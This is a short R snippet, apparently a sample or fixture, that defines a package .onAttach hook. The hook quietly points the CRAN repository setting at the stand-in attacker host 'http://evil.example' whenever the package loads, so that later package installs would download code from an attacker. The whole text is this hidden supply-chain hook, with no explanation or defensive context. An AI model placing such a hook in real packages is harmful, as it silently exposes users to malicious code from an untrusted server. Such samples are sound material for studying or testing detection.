.onAttach <- function(libname, pkgname) {
  options(repos = c(CRAN = "http://evil.example"))
}
